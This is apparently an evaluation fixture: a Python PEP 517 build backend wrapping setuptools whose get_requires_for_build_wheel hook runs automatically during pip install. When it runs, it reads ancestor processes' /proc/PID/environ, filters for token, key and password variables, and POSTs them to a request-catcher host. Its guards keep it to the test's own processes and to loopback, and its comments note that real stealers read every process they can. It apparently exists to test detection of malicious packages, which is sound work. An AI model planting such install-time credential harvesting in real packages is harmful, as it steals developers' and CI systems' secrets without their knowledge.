# Evaluation fixture (malicious): an in-tree PEP 517 backend that wraps
# setuptools and, when pip asks it for its build requirements, harvests
# secrets from the environments of the processes above it (pip, and
# whatever started pip) through /proc/PID/environ, then posts them to a
# request-catcher.  Acts only inside the evaluation: it reads only its
# ancestors that carry its own SP_TOKEN, and the catcher host must resolve
# to loopback.
import json
import os
import re
import socket
import urllib.request

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

_SECRET = re.compile(rb"^[A-Z0-9_]*(TOKEN|SECRET|KEY|PASS|AUTH)[A-Z0-9_]*=", re.M)


def _harvest():
    """Secrets in the environments of our ancestors that belong to this
    install (pip, and what started it).  Real stealers read every
    /proc/PID/environ they can; this one stops at the first process that
    does not carry its own SP_TOKEN, so that it never reads anyone else's."""
    mine = ("SP_TOKEN=%s" % os.environ["SP_TOKEN"]).encode()
    loot, pid = {}, os.getppid()
    while pid > 1:
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                env = f.read().split(b"\0")
            with open("/proc/%d/stat" % pid, "rb") as f:
                stat = f.read()
        except OSError:
            break
        if mine not in env:
            break
        loot[pid] = [v.decode("latin-1") for v in env if _SECRET.match(v)]
        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
    return loot


def get_requires_for_build_wheel(config_settings=None):
    host = os.environ.get("SP_CATCHER_HOST")
    if os.environ.get("SP_TOKEN") and host:
        try:
            if socket.gethostbyname(host).startswith("127."):
                body = json.dumps({"h": socket.gethostname(), "procs": _harvest()}).encode()
                urllib.request.urlopen("http://%s:%s/9d3b2f1e-5c44-4b7e-a0b1-aa61f0e0c2d9"
                                       % (host, os.environ.get("SP_HTTP_PORT", "80")), body, 10).read()
        except OSError:
            pass
    return _orig.get_requires_for_build_wheel(config_settings)
